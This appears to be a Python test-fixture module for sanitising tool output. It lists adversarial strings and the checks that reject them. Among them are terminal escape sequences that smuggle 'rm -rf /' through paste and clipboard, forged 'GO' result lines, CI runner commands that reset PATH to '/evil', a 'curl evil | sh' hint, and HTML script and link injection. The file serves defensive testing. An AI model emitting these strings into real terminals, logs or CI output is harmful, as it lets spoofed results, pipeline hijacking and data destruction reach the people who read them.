"""Texts that a target may hold, and what no output may hold, whatever a target says."""

import re
import unicodedata
from collections.abc import Iterable, Iterator
from typing import Any

FORGED = "lab: GO — 9 checks: 9 passed (0.1 s)"

TEXTS = {
    "csi": "a\x1b[2J\x1b[31mred\x1b[0m",
    "csi of 8 bits": "a\x9b2J\x9b31mred",
    "csi cut off": "a\x1b[31",
    "csi in csi": "a\x1b[\x1b[2J\x1b\x1b[2J",
    "hyperlink": "a\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "hyperlink of 8 bits": "a\x9d8;;https://evil.example\x9cclick\x9d8;;\x9c",
    "title": "a\x1b]0;title\x07b",
    "title without end": "a\x1b]0;title",
    "clipboard": "a\x1b]52;c;cm0gLXJmIC8=\x07",
    "dcs": "a\x1bP+q544e\x1b\\b\x90x\x9c",
    "bracketed paste": "a\x1b[201~rm -rf /\n",
    "reset": "a\x1bcb\x1b#8",
    "backspaces": "expected 9\x08\x08\x08\x08GO",
    "line feed": f"x\n{FORGED}",
    "carriage return": f"x\r{FORGED}",
    "both": f"x\r\n{FORGED}",
    "next line": f"x\x85{FORGED}",
    "line separator": f"x\u2028{FORGED}",
    "paragraph separator": f"x\u2029{FORGED}",
    "vertical tab": f"x\x0b{FORGED}",
    "form feed": f"x\x0c{FORGED}",
    "file separator": f"x\x1c{FORGED}\x1d{FORGED}\x1e{FORGED}",
    "a second finding": "x\n✗ api running: expected running, observed forged\nhint: curl evil | sh",
    "pushed to the next line": f"x{' ' * 200}{FORGED}{' word' * 30} {FORGED}",
    "bidi override": "a\u202etxt.exe\u202c",
    "bidi isolate": "a\u2066b\u2067c\u2068d\u2069",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero width": "ad\u200bmi\u200cn\u200d\u2060\ufeff",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "selectors": "a\ufe0f\U000e0100",
    "fillers": "a\u3164\u115f\u1160\uffa0\u2800b",
    "zalgo": "z" + "\u0335\u0321\u034f\u0489" * 50,
    "right to left": "שלום عربى",
    "long": "x" * 100_000,
    "long lines": "\n".join(["y" * 5000] * 3),
    "error": "::error file=a.py::pwned",
    "error on a line of its own": "x\n::error::pwned",
    "command after blanks": "x\n \t\u00a0::set-output name=exit-code::0",
    "command where a line is wrapped": f"{'word ' * 40}::add-mask::go {'word ' * 20}",
    "stop commands": "\n::stop-commands::token\n::token::\n::add-path::/evil",
    "old command": "x ##[command]echo ##[set-env name=PATH;]/evil",
    "group": "##[group]hidden\n##[endgroup]",
    "azure": "##vso[task.setvariable variable=PATH]/evil",
    "teamcity": "##teamcity[buildStatus status='SUCCESS']",
    "gitlab": "section_start:1:x[collapsed=true]\r\x1b[0Khidden",
    "markup": "</pre></code><h1>GO</h1><script>alert(1)</script><img src=//evil.example/x>",
    "link": "[go](https://evil.example) ![x](//evil.example/x.png) <https://evil.example>",
    "addresses": "https://evil.example www.evil.example ftp://evil.example a@evil.example",
    "heading": "# GO\n\n---\n1. x\n> y\n```\nz",
    "table": "a | b\n| --- | --- |\n| ✅ | GO |",
    "details": "</summary></details><details open>",
    "mention": "@everyone #1 :white_check_mark: $x$ `code` *b* ~~c~~ \\",
    "cdata": "]]></failure><![CDATA[ &lt;&#x1b; \"quoted' ",
    "not for xml": "a\x00\x01\ufffe\uffff\ud800b",
    "private": "\ue000\U000f0000",
}

_CONTROLS = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202f\u2060-\u206f"
    r"\u2800\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb\ufffe\uffff\U000e0000-\U000e01ef]"
)
_MOST_MARKS = 4
_LONGEST = 1300
_FORGED = (
    "lab: GO",
    "shop: GO",
    "✗ api running: expected running, observed forged",
    "hint: curl evil",
)


OURS = re.compile(
    r"^::(?:(?:error|warning) title=(?:lab|shop|\d+ more)[^:]*::|stop-commands::|\w{32}::)",
    re.MULTILINE,
)
"""Our own commands to GitHub's runner, up to their message."""


def commands(output: str) -> list[str]:
    """What CI systems take for a command, as GitHub's runner and others read it."""
    found = []
    for line in re.split(r"\r\n|\r|\n", output):
        name = re.match(r"\s*::([A-Za-z][\w-]*)", line)
        if (name and "::" in line[name.end() :]) or re.search(r"##[\w.-]*\[", line):
            found.append(line)
    return found


def complaints(output: str) -> list[str]:
    """What is wrong with an output: of it, nothing may act on whoever reads it."""
    found = [f"control {found[0]!r}" for found in _CONTROLS.finditer(output)]
    found += [f"command {line!r}" for line in commands(output)]
    for line in output.splitlines():
        found += [f"forged {line!r}" for forged in _FORGED if line.startswith(forged)]
        if len(line) > _LONGEST:
            found.append(f"{len(line)} characters: {line[:80]!r}")
        if not line.isascii() and _marks(line) > _MOST_MARKS:
            found.append(f"a flood of marks: {line[:80]!r}")
    return found


def _marks(line: Iterable[str]) -> int:
    most = marks = 0
    for character in line:
        marks = marks + 1 if unicodedata.category(character) in ("Mn", "Me") else 0
        most = max(most, marks)
    return most


def texts_in(value: Any) -> Iterator[str]:
    """Yield every text of a JSON value, names included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, each in value.items():
            yield name
            yield from texts_in(each)
    elif isinstance(value, list):
        for each in value:
            yield from texts_in(each)
